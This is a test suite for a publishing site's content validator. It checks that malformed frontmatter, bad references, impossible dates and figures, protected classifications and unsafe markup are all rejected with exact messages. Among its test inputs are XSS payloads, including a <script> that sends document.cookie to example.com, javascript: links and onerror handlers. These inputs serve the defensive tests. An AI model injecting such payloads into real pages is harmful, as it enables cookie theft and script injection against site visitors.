// Bad content never publishes. Each case is a small valid site (tests/helpers/content-fixture.ts) broken in
// one way; the check must name the file, the line, the field and the fix, in the words of `npm run check`.
// The same check runs first in `npm run build` and in the Astro build (see build-refuses-bad-content.test.ts and
// tests/site/production-build.test.ts, which also cover drafts left out of a production build).
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { formatProblem, formatReport, type Problem } from '../../../src/lib/validation/problems.ts';
import { validateContent } from '../../../src/lib/validation/validate-content.ts';
import { validateSite } from '../../../src/lib/validation/validate-site.ts';
import { dataWithLine, makeSite, validFiles, validInspection, withLine } from '../../helpers/content-fixture.ts';

const paper = 'papers/2018-05-10-a-paper.md';
const meeting = 'meetings/test-board-2018-05-10.md';
const decision = 'decisions/2018-05-10-a-decision.yaml';
const board = 'boards/test-board.yaml';
const inspection = 'inspections/test-inspection-2018.md';
const paperFile = `content/${paper}`;
const meetingFile = `content/${meeting}`;
const invalidData = path.resolve(import.meta.dirname, '../../fixtures/data/invalid/indicators');
const invalidDataset = (name: string) => fs.readFileSync(path.join(invalidData, name), 'utf8');

/** The paper fixture with its body text (line 19 of the file) replaced. */
const paperBody = (body: string) => withLine(paper, '\nText.\n', `\n${body}\n`);
/** The meeting fixture with minutes added: line 15 is a heading, line 17 the given text. */
const meetingBody = (body: string) => ({ [meeting]: `${validFiles[meeting]}\n## Minutes\n\n${body}\n` });
/** The inspection fixture (added to the site) with its body text (line 12) replaced. */
const inspectionBody = (body: string) => withLine(inspection, '\nText.\n', `\n${body}\n`);

// The same files written as MDX (.mdx is still read, under the MDX rules).
const asMdx = (file: string) => file.replace(/\.md$/, '.mdx');
const mdx = (files: Record<string, string | null>) =>
  Object.fromEntries(Object.entries(files).flatMap(([file, text]) => (file.endsWith('.md') ? [[file, null], [asMdx(file), text]] : [[file, text]])));
const mdxPaperFile = asMdx(paperFile);

interface Expected {
  file: string;
  line?: number;
  field: string;
  message: RegExp;
  fix: RegExp;
}

/** [what is wrong, the files that break the valid site, the problem the check must report]. */
const cases: [string, Record<string, string | null>, Expected][] = [
  // Malformed YAML and frontmatter
  ['malformed YAML in a paper\'s frontmatter', withLine(paper, 'purpose: To test.', 'purpose: [unclosed'),
    { file: paperFile, field: '(YAML)', message: /^cannot be read/, fix: /check the indentation/ }],
  ['a paper with no frontmatter', { [paper]: '# Just text\n' },
    { file: paperFile, line: 1, field: '(frontmatter)', message: /^is missing$/, fix: /start the file with a line "---"/ }],
  ['frontmatter that is never closed', { [paper]: validFiles[paper]!.replace(/\n---\n\n## Body/, '\n\n## Body') },
    { file: paperFile, line: 1, field: '(frontmatter)', message: /^is not closed$/, fix: /add a line "---" after the last field/ }],
  ['a board file that is not YAML', { [board]: 'name: Test Board\ndescription: [A board\n' },
    { file: `content/${board}`, field: '(YAML)', message: /^cannot be read/, fix: /check the indentation/ }],
  ['a field given twice', withLine(paper, 'purpose: To test.', 'purpose: To test.\npurpose: Again.'),
    { file: paperFile, field: '(YAML)', message: /cannot be read: Map keys must be unique/, fix: /check the indentation/ }],
  ['an indicator dataset that is not YAML', { 'data/indicators/broken.yaml': invalidDataset('broken.yaml') },
    { file: 'data/indicators/broken.yaml', field: '(YAML)', message: /^cannot be read/, fix: /check the indentation/ }],

  // Wrong types
  ['recommendations that are not a list', withLine(paper, 'recommendations:\n  - To note the report.', 'recommendations: 3'),
    { file: paperFile, line: 11, field: 'recommendations', message: /^is 3$/, fix: /must be a list \(lines starting "- "\)/ }],
  ['a time that is not HH:MM', withLine(meeting, 'startTime: "14:00"', 'startTime: 2pm'),
    { file: meetingFile, line: 4, field: 'startTime', message: /^is "2pm"$/, fix: /must be a time written "HH:MM"/ }],
  ['an unknown meeting status', withLine(meeting, 'status: held', 'status: done'),
    { file: meetingFile, line: 5, field: 'status', message: /^is "done"$/, fix: /must be scheduled, held or cancelled/ }],
  ['an unknown classification', withLine(paper, 'classification: OFFICIAL', 'classification: Secret-ish'),
    { file: paperFile, line: 8, field: 'classification', message: /^is "Secret-ish"$/, fix: /must be one of: Public report, OFFICIAL/ }],
  ['a misspelt field', withLine(paper, 'purpose:', 'purpuse:'),
    { file: paperFile, line: 10, field: 'purpuse', message: /^is not a field of a paper$/, fix: /^did you mean "purpose"\? Correct the spelling$/ }],
  ['a field that papers do not have', withLine(paper, 'purpose:', 'colour: blue\npurpose:'),
    { file: paperFile, line: 10, field: 'colour', message: /^is not a field of a paper$/, fix: /check the spelling, or remove it\. The fields are: title, board, meeting/ }],
  ['markedDraft that is not true or false', withLine(paper, 'status: final', 'status: final\nmarkedDraft: perhaps'),
    { file: paperFile, line: 10, field: 'markedDraft', message: /^is "perhaps"$/, fix: /must be true or false/ }],
  ['a board order that is not a number', { [board]: `${validFiles[board]}order: first\n` },
    { file: `content/${board}`, line: 4, field: 'order', message: /^is "first"$/, fix: /must be a whole number/ }],
  ['an indicator value that is not a number', dataWithLine('all-recorded-crime', 'value: 4078', 'value: lots'),
    { file: 'data/indicators/all-recorded-crime.yaml', line: 16, field: 'observations[0].value', message: /^is "lots"$/, fix: /^must be a number/ }],

  // Missing required fields
  ['a paper with no title', withLine(paper, 'title: A paper\n', ''),
    { file: paperFile, line: 2, field: 'title', message: /^is missing$/, fix: /^add it: every paper needs "title"$/ }],
  ['a meeting with no date', withLine(meeting, 'date: 2018-05-10\n', ''),
    { file: meetingFile, field: 'date', message: /^is missing$/, fix: /every meeting needs "date"/ }],
  ['a decision with no summary', withLine(decision, 'summary: Decided.\n', ''),
    { file: `content/${decision}`, field: 'summary', message: /^is missing$/, fix: /every decision needs "summary"/ }],

  // Unknown references
  ['a meeting of a board that does not exist', withLine(meeting, 'board: test-board', 'board: no-such-board'),
    { file: meetingFile, line: 2, field: 'board', message: /^"no-such-board" is not a board: there is no file content\/boards\/no-such-board\.yaml$/, fix: /use the file name \(without \.yaml\) of a board in content\/boards, for example test-board/ }],
  ['a paper naming a meeting that does not exist', withLine(paper, 'meeting: test-board-2018-05-10', 'meeting: test-board-2018-06-01'),
    { file: paperFile, line: 4, field: 'meeting', message: /^"test-board-2018-06-01" is not a meeting/, fix: /for example test-board-2018-05-10$/ }],
  ['an agenda linking a paper that does not exist', withLine(meeting, 'paper: 2018-05-10-a-paper', 'paper: 2018-05-10-missing'),
    { file: meetingFile, line: 10, field: 'agenda[0].paper', message: /^"2018-05-10-missing" is not a paper/, fix: /for example 2018-05-10-a-paper/ }],
  ['a decision citing a meeting that does not exist', withLine(decision, 'meeting: test-board-2018-05-10', 'meeting: nope'),
    { file: `content/${decision}`, line: 4, field: 'meeting', message: /^"nope" is not a meeting/, fix: /of a meeting in content\/meetings/ }],
  ['a decision citing a paper that does not exist', withLine(decision, 'summary:', 'paper: no-such-paper\nsummary:'),
    { file: `content/${decision}`, line: 5, field: 'paper', message: /^"no-such-paper" is not a paper/, fix: /of a paper in content\/papers/ }],
  ['an inspection naming a paper that does not exist', { ...validInspection, ...withLine(inspection, 'summary: Found things.', 'summary: Found things.\npapers: [no-such-paper]') },
    { file: `content/${inspection}`, line: 6, field: 'papers[0]', message: /^"no-such-paper" is not a paper/, fix: /for example 2018-05-10-a-paper/ }],
  ['an inspection finding citing a meeting that does not exist', { ...validInspection, ...withLine(inspection, 'summary: Found things.', 'summary: Found things.\nfindings:\n  - { id: a, ref: X-1, kind: action, text: Do it., meeting: nope, source: { title: Report } }') },
    { file: `content/${inspection}`, line: 7, field: 'findings[0].meeting', message: /^"nope" is not a meeting/, fix: /of a meeting in content\/meetings/ }],
  ['a meeting source naming a paper that does not exist', withLine(meeting, '  - title: Test pack', '  - title: Test pack\n    paper: no-such-paper'),
    { file: meetingFile, line: 13, field: 'sources[0].paper', message: /^"no-such-paper" is not a paper/, fix: /of a paper in content\/papers/ }],
  ['a chart of an indicator that does not exist', paperBody('<IndicatorChart id="nope" />'),
    { file: paperFile, line: 19, field: 'IndicatorChart id', message: /^"nope" is not an indicator: there is no file data\/indicators\/nope\.yaml$/, fix: /for example all-recorded-crime, ksi-by-year/ }],
  ['a dataset relating to a dataset that does not exist', dataWithLine('all-recorded-crime', 'related: [ksi-by-year]', 'related: [no-such-dataset]'),
    { file: 'data/indicators/all-recorded-crime.yaml', line: 31, field: 'related[0]', message: /^"no-such-dataset" is not an indicator dataset/, fix: /for example ksi-by-year/ }],

  // Duplicate ids and slugs
  ['two papers with the same file name in different folders', { 'papers/2018/2018-05-10-a-paper.md': validFiles[paper]! },
    { file: 'content/papers/2018/2018-05-10-a-paper.md', field: '(file name)', message: /^repeats the id "2018-05-10-a-paper" of content\/papers\/2018-05-10-a-paper\.md$/, fix: /give one of the two files a different name/ }],
  ['two datasets with the same id', { 'data/indicators/more/ksi-by-year.yaml': dataWithLine('ksi-by-year', 'title:', 'title:')['data/indicators/ksi-by-year.yaml']! },
    { file: 'data/indicators/more/ksi-by-year.yaml', field: '(file name)', message: /^repeats the id "ksi-by-year"/, fix: /different name/ }],
  ['two papers in the same agenda slot', { 'papers/2018-05-10-b-paper.md': validFiles[paper]! },
    { file: 'content/papers/2018-05-10-b-paper.md', line: 5, field: 'agendaItem', message: /^"1" is already used at this meeting by content\/papers\/2018-05-10-a-paper\.md$/, fix: /use the next free agenda item number/ }],
  ['an agenda item number used twice', withLine(meeting, 'sources:', '  - item: "1"\n    title: Any other business\nsources:'),
    { file: meetingFile, line: 11, field: 'agenda[1].item', message: /^repeats item number "1"$/, fix: /give each agenda item its own number/ }],
  ['a board file in the wrong format', { 'boards/extra.json': '{}' },
    { file: 'content/boards/extra.json', field: '(file name)', message: /^is not a \.yaml file$/, fix: /rename it to end in \.yaml, or move it out of content\/boards/ }],
  ['a file name that is not an id', { 'papers/My Paper.md': validFiles[paper]! },
    { file: 'content/papers/My Paper.md', field: '(file name)', message: /^"My Paper" is not a valid id$/, fix: /lower-case letters, digits and hyphens/ }],

  // Impossible dates and periods
  ['the 40th day of the 13th month', withLine(paper, 'date: 2018-05-10', 'date: 2018-13-40'),
    { file: paperFile, line: 7, field: 'date', message: /^is "2018-13-40"$/, fix: /must be a real calendar date/ }],
  ['the 30th of February', withLine(decision, 'date: 2018-05-10', 'date: 2018-02-30'),
    { file: `content/${decision}`, line: 2, field: 'date', message: /^is "2018-02-30"$/, fix: /must be a real calendar date/ }],
  ['a date written the British way', withLine(paper, 'date: 2018-05-10', 'date: 10/05/2018'),
    { file: paperFile, line: 7, field: 'date', message: /^is "10\/05\/2018"$/, fix: /must be a date written YYYY-MM-DD/ }],
  ['a 13th month in a data series', dataWithLine('all-recorded-crime', 'period: 2018-03, value: 4988', 'period: 2018-13, value: 4988'),
    { file: 'data/indicators/all-recorded-crime.yaml', line: 19, field: 'observations[3].period', message: /^is "2018-13"$/, fix: /must be a real month or financial year/ }],

  // Figures that cannot be right
  ['a percentage over 100', { 'data/indicators/percent-over-100.yaml': invalidDataset('percent-over-100.yaml') },
    { file: 'data/indicators/percent-over-100.yaml', line: 13, field: 'observations[1].value', message: /^is 195\.6$/, fix: /must be a percentage from 0 to 100/ }],
  ['a negative count', dataWithLine('all-recorded-crime', 'value: 4078', 'value: -4078'),
    { file: 'data/indicators/all-recorded-crime.yaml', line: 16, field: 'observations[0].value', message: /^is -4078$/, fix: /must not be negative: a count cannot be below 0/ }],
  ['the same period twice in one series', dataWithLine('all-recorded-crime', 'period: 2016-03', 'period: 2015-03'),
    { file: 'data/indicators/all-recorded-crime.yaml', line: 17, field: 'observations[1].period', message: /^is "2015-03"$/, fix: /must not repeat a period in one series: observations\[0\]/ }],

  // MDX that does not parse, or that would run code (an .mdx file)
  ['an unclosed tag', mdx(paperBody('<IndicatorChart id="all-recorded-crime">')),
    { file: mdxPaperFile, line: 19, field: '(body)', message: /^cannot be read: Expected a closing tag for <IndicatorChart>/, fix: /close every tag/ }],
  ['a stray "<" before a digit', mdx(paperBody('Fewer than <5% of cases.')),
    { file: mdxPaperFile, line: 19, field: '(body)', message: /^cannot be read/, fix: /write \\< or \\\{/ }],
  ['an import line', mdx(paperBody('import Chart from "../../../src/components/Chart.astro";')),
    { file: mdxPaperFile, line: 19, field: '(body)', message: /^has an "import" line, which runs code when the site is built$/, fix: /delete the line/ }],
  ['an export line', mdx(paperBody('export const figure = 42;')),
    { file: mdxPaperFile, line: 19, field: '(body)', message: /^has an "export" line/, fix: /delete the line/ }],
  ['a JavaScript expression in the text', mdx(paperBody('Recorded crime rose by {(5737 - 3968) / 3968 * 100}%.')),
    { file: mdxPaperFile, line: 19, field: '(body)', message: /^has \{…\}, which MDX runs as JavaScript$/, fix: /remove the braces; to show a brace as text, write \\\{/ }],
  ['a <script> element', mdx(paperBody('<script>fetch("https://example.com/?" + document.cookie)</script>')),
    { file: mdxPaperFile, line: 19, field: '(body)', message: /^has <script>, which could run code/, fix: /^remove it/ }],
  ['an <iframe>', mdx(paperBody('<iframe src="https://example.com/"></iframe>')),
    { file: mdxPaperFile, line: 19, field: '(body)', message: /^has <iframe>/, fix: /^remove it/ }],
  ['a <style> element', mdx(paperBody('<style>@import url(https://example.com/x.css);</style>')),
    { file: mdxPaperFile, line: 19, field: '(body)', message: /^has <style>/, fix: /^remove it/ }],
  ['an on…= event handler', mdx(paperBody('<IndicatorChart id="all-recorded-crime" onMouseOver="alert(1)" />')),
    { file: mdxPaperFile, line: 19, field: '(body)', message: /^has an event handler onMouseOver= on <IndicatorChart>/, fix: /^remove onMouseOver=…$/ }],
  ['a javascript: link', mdx(paperBody('[Read the report](javascript:alert(document.domain))')),
    { file: mdxPaperFile, line: 19, field: '(body)', message: /^"javascript:alert\(document\.domain\)" is not a link this site can publish: it is a javascript: address/, fix: /link to an https:\/\/ address or a page of this site/ }],
  ['an HTML tag other than the allowed component', mdx(paperBody('<div class="warning">Take care.</div>')),
    { file: mdxPaperFile, line: 19, field: '(body)', message: /^has the tag <div>; the only tag content may use is <IndicatorChart>$/, fix: /use Markdown instead/ }],
  ['a component the project does not provide', mdx(paperBody('<Chart data="crime" />')),
    { file: mdxPaperFile, line: 19, field: '(body)', message: /^has the tag <Chart>/, fix: /use Markdown instead/ }],
  ['a chart id written as code', mdx(paperBody('<IndicatorChart id={"all-recorded" + "-crime"} />')),
    { file: mdxPaperFile, line: 19, field: '(body)', message: /^has id=\{…\} on <IndicatorChart>, which MDX runs as JavaScript$/, fix: /write the value in quotes/ }],
  ['a <script> in a meeting\'s minutes', mdx(meetingBody('<script src="https://example.com/x.js"></script>')),
    { file: asMdx(meetingFile), line: 17, field: '(body)', message: /^has <script>/, fix: /^remove it/ }],
  ['an expression in an inspection report', mdx({ ...validInspection, ...inspectionBody('Graded {"good"}.') }),
    { file: asMdx(`content/${inspection}`), line: 12, field: '(body)', message: /^has \{…\}/, fix: /remove the braces/ }],

  // Markdown that carries HTML (a .md file: Markdown would pass HTML straight into the page)
  ['a <script> element in Markdown', paperBody('<script>fetch("https://example.com/?" + document.cookie)</script>'),
    { file: paperFile, line: 19, field: '(body)', message: /^has <script>, which could run code/, fix: /^remove it/ }],
  ['an <iframe> in Markdown', paperBody('<iframe src="https://example.com/"></iframe>'),
    { file: paperFile, line: 19, field: '(body)', message: /^has <iframe>/, fix: /^remove it/ }],
  ['a <style> element in Markdown', paperBody('<style>@import url(https://example.com/x.css);</style>'),
    { file: paperFile, line: 19, field: '(body)', message: /^has <style>/, fix: /^remove it/ }],
  ['an HTML tag in a line of Markdown', paperBody('Take <b onclick="alert(1)">care</b>.'),
    { file: paperFile, line: 19, field: '(body)', message: /^has the HTML tag <b>; Markdown content may not use HTML$/, fix: /use Markdown instead .*write \\</ }],
  ['an HTML comment in Markdown', paperBody('<!-- not for the public: figures to follow -->'),
    { file: paperFile, line: 19, field: '(body)', message: /^has an HTML comment, which would be published in the page$/, fix: /^remove it/ }],
  ['a javascript: link in Markdown', paperBody('[Read the report](javascript:alert(document.domain))'),
    { file: paperFile, line: 19, field: '(body)', message: /^"javascript:alert\(document\.domain\)" is not a link this site can publish: it is a javascript: address/, fix: /link to an https:\/\/ address or a page of this site/ }],
  ['a chart inside a line of text', paperBody('Recorded crime <IndicatorChart id="all-recorded-crime" /> rose.'),
    { file: paperFile, line: 19, field: '(body)', message: /^has a chart inside a line of text$/, fix: /on a line of its own/ }],
  ['a chart with an attribute it does not take', paperBody('<IndicatorChart id="all-recorded-crime" onMouseOver="alert(1)" />'),
    { file: paperFile, line: 19, field: '(body)', message: /^has a chart tag that cannot be read$/, fix: /only an id, ending "\/>"/ }],
  ['a chart without an id', paperBody('<IndicatorChart />'),
    { file: paperFile, line: 19, field: '(body)', message: /^<IndicatorChart> has no id$/, fix: /add id="…"/ }],
  ['a chart naming no dataset', paperBody('<IndicatorChart id="no-such-dataset" />'),
    { file: paperFile, line: 19, field: 'IndicatorChart id', message: /^"no-such-dataset" is not an indicator/, fix: /use the file name \(without \.yaml\) of a dataset/ }],
  ['a <script> in a meeting\'s minutes in Markdown', meetingBody('<script src="https://example.com/x.js"></script>'),
    { file: meetingFile, line: 17, field: '(body)', message: /^has <script>/, fix: /^remove it/ }],
  ['raw HTML in an inspection report in Markdown', { ...validInspection, ...inspectionBody('<img src="x" onerror="alert(1)">') },
    { file: `content/${inspection}`, line: 12, field: '(body)', message: /^has the HTML tag <img>/, fix: /use Markdown instead/ }],

  // Protective markings above OFFICIAL (production rule; npm run check, npm run build and astro build are production)
  ['a paper marked OFFICIAL-SENSITIVE', withLine(paper, 'classification: OFFICIAL', 'classification: OFFICIAL-SENSITIVE'),
    { file: paperFile, line: 8, field: 'classification', message: /^is "OFFICIAL-SENSITIVE": papers marked OFFICIAL-SENSITIVE, SECRET or TOP SECRET must never be published$/, fix: /take the file out of content\// }],
  ['a paper marked SECRET', withLine(paper, 'classification: OFFICIAL', 'classification: SECRET'),
    { file: paperFile, line: 8, field: 'classification', message: /^is "SECRET"/, fix: /publish only a version marked OFFICIAL/ }],
  ['a draft paper marked TOP SECRET', withLine(paper, 'classification: OFFICIAL\nstatus: final', 'classification: TOP SECRET\nstatus: draft'),
    { file: paperFile, line: 8, field: 'classification', message: /^is "TOP SECRET"/, fix: /take the file out of content\// }],
];

function check(overrides: Record<string, string | null>): Problem[] {
  const { root } = makeSite(overrides);
  try {
    return validateSite(root).problems;
  } finally {
    fs.rmSync(root, { recursive: true, force: true });
  }
}

describe('a valid site', () => {
  it('has no problems, with or without an inspection report', () => {
    expect(check({})).toEqual([]);
    expect(check(validInspection)).toEqual([]);
  });
});

describe.each(cases)('%s', (_name, overrides, expected) => {
  it('stops publication with one message naming the file, line, field and fix', () => {
    const problems = check(overrides);
    expect(problems.map(formatProblem)).toHaveLength(1);
    const [problem] = problems as [Problem];
    expect(problem.file).toBe(expected.file);
    if (expected.line !== undefined) expect(problem.line).toBe(expected.line);
    else expect(problem.line === undefined || problem.line > 0).toBe(true);
    expect(problem.field).toBe(expected.field);
    expect(problem.message).toMatch(expected.message);
    expect(problem.fix).toMatch(expected.fix);
    // The one-line form a publisher reads: file:line  field  what is wrong — how to fix
    const where = problem.line ? `${problem.file}:${problem.line}` : problem.file;
    expect(formatProblem(problem)).toBe(`${where}  ${problem.field}  ${problem.message} — ${problem.fix}`);
  });
});

describe('protective markings', () => {
  it('are not a problem in preview (npm run dev), where nothing is published', () => {
    const { root, contentDir } = makeSite(withLine(paper, 'classification: OFFICIAL', 'classification: SECRET'));
    expect(validateContent(root, contentDir, { mode: 'preview' }).problems).toEqual([]);
    expect(validateContent(root, contentDir, { mode: 'production' }).problems).toHaveLength(1);
  });
});

describe('drafts', () => {
  it('are valid content: the build leaves them out rather than failing (see tests/site/production-build.test.ts)', () => {
    expect(check(withLine(paper, 'status: final', 'status: draft'))).toEqual([]);
  });

  it('may be named by an inspection, its findings and a source: the build says "a paper not yet published" (tests/hostile/drafts.cases.ts)', () => {
    const named = withLine(inspection, 'summary: Found things.', 'summary: Found things.\npapers: [2018-05-10-a-paper]\nfindings:\n  - { id: a, ref: X-1, kind: action, text: Do it., paper: 2018-05-10-a-paper, source: { title: Report, paper: 2018-05-10-a-paper } }');
    expect(check({ ...withLine(paper, 'status: final', 'status: draft'), ...validInspection, ...named })).toEqual([]);
  });
});

describe('every problem of a run, reported together', () => {
  it('lists problems from papers, meetings, inspections and data in one report, in file order', () => {
    const overrides = {
      ...withLine(paper, 'title: A paper\n', ''),
      ...meetingBody('<iframe src="https://example.com/"></iframe>'),
      ...validInspection,
      ...inspectionBody('<!-- draft -->'),
      ...withLine(decision, 'date: 2018-05-10', 'date: 2018-02-30'),
      ...dataWithLine('all-recorded-crime', 'value: 4078', 'value: -4078'),
      'data/indicators/percent-over-100.yaml': invalidDataset('percent-over-100.yaml'),
    };
    const problems = check(overrides);
    const report = formatReport(problems);
    const lines = [
      'content/decisions/2018-05-10-a-decision.yaml:2  date  is "2018-02-30" — must be a real calendar date',
      'content/inspections/test-inspection-2018.md:12  (body)  has an HTML comment',
      'content/meetings/test-board-2018-05-10.md:17  (body)  has <iframe>',
      'content/papers/2018-05-10-a-paper.md:2  title  is missing — add it: every paper needs "title"',
      'data/indicators/all-recorded-crime.yaml:16  observations[0].value  is -4078',
      'data/indicators/percent-over-100.yaml:13  observations[1].value  is 195.6',
    ];
    expect(problems).toHaveLength(lines.length);
    expect(report.split('\n')[0]).toBe(`Content check found ${lines.length} problems. Nothing was published.`);
    const body = report.split('\n').slice(2);
    lines.forEach((line, index) => expect(body[index]).toContain(line));
  });
});

it('has at least 30 cases', () => expect(cases.length).toBeGreaterThanOrEqual(30));
